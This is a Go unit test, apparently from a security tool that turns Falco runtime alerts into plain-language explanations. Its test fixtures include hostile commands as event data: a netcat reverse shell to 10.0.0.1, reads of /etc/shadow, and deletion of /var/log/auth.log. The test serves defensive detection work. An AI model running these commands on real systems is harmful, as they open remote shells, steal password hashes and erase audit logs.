package main

import (
	"testing"

	"github.com/stoop-project/stoop/internal/event"
	"github.com/stoop-project/stoop/internal/profile"
	"github.com/stoop-project/stoop/internal/trail"
)

func TestReason(t *testing.T) {
	for _, c := range []struct {
		fields, want string
		guess        bool
	}{
		{
			`"evt.type":"openat","evt.is_open_read":true,"fd.name":"/etc/shadow","proc.name":"sh","proc.pname":"python3","k8s.pod.name":"web-0","k8s.ns.name":"shop","container.id":"6cf4be7b2388"`,
			"sh (started by python3) opened /etc/shadow for reading in pod shop/web-0", false,
		},
		{`"evt.type":"execve","proc.name":"nc","proc.cmdline":"nc -e /bin/sh 10.0.0.1 4444","container.id":"6cf4be7b2388"`, "nc ran nc -e /bin/sh 10.0.0.1 4444 in container 6cf4be7b2388", false},
		{`"evt.type":"connect","proc.name":"curl","fd.sip":"10.0.0.9","fd.sport":443,"container.id":"host"`, "curl connected to 10.0.0.9 port 443 on the host", false},
		{`"evt.type":"unlinkat","proc.name":"rm","fd.name":"/var/log/auth.log"`, "rm removed /var/log/auth.log", false},
		{`"fd.name":"/etc/shadow","proc.name":"cat"`, "cat did something with /etc/shadow", true},
		{`"proc.cmdline":"cat /etc/shadow","container.name":"web"`, "cat ran as cat /etc/shadow in container web", true},
		{`"ka.verb":"create","ka.target.resource":"pods","ka.target.name":"x","ka.user.name":"eve"`, "user eve did create on pods x", false},
		{`"container.id":"6cf4be7b2388"`, "", false},
	} {
		doc := []byte(`{"rule":"R","priority":"Notice","time":"2026-05-04T10:00:00Z","output_fields":{` + c.fields + `}}`)
		m := profile.NewMapper(profile.ByName("falco"), event.NewTables())
		e, err := m.Map(doc)
		if err != nil {
			t.Fatal(err)
		}
		b := event.NewBatch(m.Tables(), 1, 1)
		b.Append(e, doc)
		if got, guess := trail.Reason(b.Row(0)); got != c.want || guess != c.guess {
			t.Errorf("%s\nreads %q, a guess: %v; want %q, %v", c.fields, got, guess, c.want, c.guess)
		}
	}
}
